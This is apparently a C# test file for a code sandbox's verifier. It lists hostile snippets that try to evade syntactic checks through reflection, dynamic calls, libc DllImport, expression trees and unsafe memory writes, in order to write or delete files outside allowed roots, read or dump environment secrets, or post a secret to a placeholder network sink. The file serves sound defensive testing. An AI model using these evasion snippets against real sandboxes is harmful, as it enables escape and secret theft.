using Holes.Security.Tests.Harness;

namespace Holes.Security.Tests.Cases;

public static partial class HostileCases
{
    /// <summary>
    /// Verifier confusion: the same denied effects (write a file outside the roots, read the secret from the
    /// environment, reach the network), spelled so that a syntactic check would miss them.
    /// </summary>
    private static IEnumerable<HostileCase> Verifier()
    {
        static HostileCase C(string name, string code, Outcome expect = Outcome.Rejected) => new("verifier/" + name, Category.Verifier, code, expect);
        const string Outside = "$ROOT/outside/pwned.txt";

        yield return C("lambda-alias", $"Func<string, string, Task> write = (p, t) => System.IO.File.WriteAllTextAsync(p, t); await write(\"{Outside}\", \"x\"); return 0;");
        yield return C("global-qualified", $"global::System.IO.File.WriteAllText(\"{Outside}\", \"x\"); return 0;");
        yield return C("fully-qualified-delete", "System.IO.File.Delete(\"$ROOT/outside/private.txt\"); return 0;");
        yield return C("gettype-assembly-chain", $"var t = \"\".GetType().Assembly.GetType(\"System.IO.File\")!; t.GetMethod(\"WriteAllText\", new[] {{ typeof(string), typeof(string) }})!.Invoke(null, new object[] {{ \"{Outside}\", \"x\" }}); return 0;");
        yield return C("typeof-assembly-environment", "return (string)typeof(int).Assembly.GetType(\"System.Environment\")!.GetMethod(\"GetEnvironmentVariable\", new[] { typeof(string) })!.Invoke(null, new object[] { \"HOLES_SECRET\" })!;") with { Type = "string" };
        yield return C("type-gettype-by-name", $"var file = Type.GetType(\"System.IO.File, System.Private.CoreLib\")!; file.GetMethod(\"AppendAllText\", new[] {{ typeof(string), typeof(string) }})!.Invoke(null, new object[] {{ \"{Outside}\", \"x\" }}); return 0;");
        yield return C("dynamic-member-chain", $"object o = new object(); dynamic t = o.GetType(); dynamic asm = t.Assembly; dynamic file = asm.GetType(\"System.IO.File\"); file.GetMethod(\"WriteAllText\", new Type[] {{ typeof(string), typeof(string) }}).Invoke(null, new object[] {{ \"{Outside}\", \"x\" }}); return 0;");
        yield return C("dynamic-capability-call", "dynamic fs = files; string text = await fs.ReadTextAsync(\"../outside/private.txt\"); return text;", Outcome.Block) with { Type = "string", Values = "files" };
        yield return C("unsafe-pointer-write", "unsafe { int x = 1; int* p = &x; *(p + 100000) = 1; } return 0;");
        yield return C("function-pointer", $"unsafe {{ delegate*<string, string, void> write = &System.IO.File.WriteAllText; write(\"{Outside}\", \"x\"); }} return 0;");
        yield return C("dllimport-local-function", "[System.Runtime.InteropServices.DllImport(\"libc\", EntryPoint = \"unlink\")] static extern int Unlink(string path); return Unlink(\"$ROOT/outside/private.txt\");");
        yield return C("dllimport-getenv", "[System.Runtime.InteropServices.DllImport(\"libc\", EntryPoint = \"getenv\")] static extern IntPtr GetEnv(string name); return System.Runtime.InteropServices.Marshal.PtrToStringAnsi(GetEnv(\"HOLES_SECRET\")) ?? \"\";") with { Type = "string" };
        yield return C("method-group-to-denied-api", "Func<string, string?> read = Environment.GetEnvironmentVariable; return read(\"HOLES_SECRET\") ?? \"\";") with { Type = "string" };
        yield return C("method-group-foreach-delete", "new List<string> { \"$ROOT/outside/private.txt\" }.ForEach(System.IO.File.Delete); return 0;");
        yield return C("method-group-cast-to-action", $"var write = (Action<string, string>)System.IO.File.WriteAllText; write(\"{Outside}\", \"x\"); return 0;");
        yield return C("host-extension-method", $"\"x\".WriteTo(\"{Outside}\"); return \"\";") with { ViaModel = true, Note = "the model path: the call site's file imports Host, so the extension binds with instance syntax" };
        yield return C("host-extension-method-qualified", $"Host.ShellExtensions.WriteTo(\"x\", \"{Outside}\"); return 0;");
        yield return C("implicit-conversion-operator", $"string s = new Host.Leaker(\"{Outside}\"); return s.Length;") with { Note = "needs the generator's effect table to call Leaker authority" };
        yield return C("user-operator", $"return new Host.Leaker(\"{Outside}\") + 1;");
        yield return C("deconstruction", $"var (a, b) = new Host.Leaker(\"{Outside}\"); return a.Length + b.Length;");
        yield return C("property-pattern", $"return new Host.Leaker(\"{Outside}\") is {{ Touch: true }} ? 1 : 0;");
        yield return C("positional-pattern", $"return new Host.Leaker(\"{Outside}\") is var (a, _) ? a.Length : 0;");
        yield return C("catch-filter", $"try {{ throw new InvalidOperationException(); }} catch (InvalidOperationException) when (Write()) {{ }} static bool Write() {{ System.IO.File.WriteAllText(\"{Outside}\", \"x\"); return true; }} return 0;");
        yield return C("catch-filter-environment", "try { throw new InvalidOperationException(); } catch (InvalidOperationException e) when (e.Data.Count == 0 && Environment.GetEnvironmentVariable(\"HOLES_SECRET\") is { Length: > 0 } s) { return s; } return \"\";") with { Type = "string" };
        yield return C("default-interface-member", $"Host.IGreeter g = new Host.Greeter(\"{Outside}\"); return g.Greet().Length;");
        yield return C("static-interface-member", $"Host.IGreeter.Reset(\"{Outside}\"); return 0;");
        yield return C("static-abstract-through-type-parameter", $"static string Make<T>(string path) where T : Host.IFactory<T> => T.Make(path); return Make<Host.EvilFactory>(\"{Outside}\").Length;");
        yield return C("with-expression-init-accessor", $"var p = new Host.Profile(\"a\") with {{ Path = \"{Outside}\" }}; return p.Name.Length;");
        yield return C("generic-new-constraint", "static T Make<T>() where T : new() => new T(); using var client = Make<System.Net.Http.HttpClient>(); return (await client.GetStringAsync(\"$SINK\")).Length;");
        yield return C("expression-tree-compile", $"var call = System.Linq.Expressions.Expression.Call(typeof(System.IO.File), \"WriteAllText\", null, System.Linq.Expressions.Expression.Constant(\"{Outside}\"), System.Linq.Expressions.Expression.Constant(\"x\")); System.Linq.Expressions.Expression.Lambda<Action>(call).Compile()(); return 0;");
        yield return C("expression-lambda-compile", "System.Linq.Expressions.Expression<Func<string?>> e = () => Environment.GetEnvironmentVariable(\"HOLES_SECRET\"); return e.Compile()() ?? \"\";") with { Type = "string" };
        yield return C("unsafe-as-type-confusion", "var forged = System.Runtime.CompilerServices.Unsafe.As<Host.IWebhook>(new object()); return await forged.PostAsync(\"forged\");");
        yield return C("unsafe-add-out-of-bounds", "var a = new int[4]; ref var r = ref System.Runtime.InteropServices.MemoryMarshal.GetArrayDataReference(a); System.Runtime.CompilerServices.Unsafe.Add(ref r, 1_000_000) = 42; return a[0];");
        yield return C("path-gettempfilename", "return System.IO.Path.GetTempFileName();") with { Type = "string" };
        yield return C("environment-variables-dump", "return string.Join(\";\", Environment.GetEnvironmentVariables().Values.Cast<object>());") with { Type = "string" };
        yield return C("assembly-load-from", "var asm = System.Reflection.Assembly.LoadFrom(\"/usr/share/dotnet/shared/Microsoft.NETCore.App/10.0.0/System.IO.FileSystem.dll\"); return asm.GetTypes().Length;");
        yield return C("activator-by-name", $"var info = Activator.CreateInstance(Type.GetType(\"System.IO.FileInfo\")!, \"{Outside}\")!; info.GetType().GetMethod(\"Create\")!.Invoke(info, null); return 0;");
        yield return C("http-extension-method", "using var client = new System.Net.Http.HttpClient(); await System.Net.Http.Json.HttpClientJsonExtensions.PostAsJsonAsync(client, \"$SINK\", new { leak = Environment.GetEnvironmentVariable(\"HOLES_SECRET\") }); return 0;");
        yield return C("socket-raw", "using var socket = new System.Net.Sockets.Socket(System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp); socket.Connect(\"127.0.0.1\", $PORT); return 0;");
    }
}
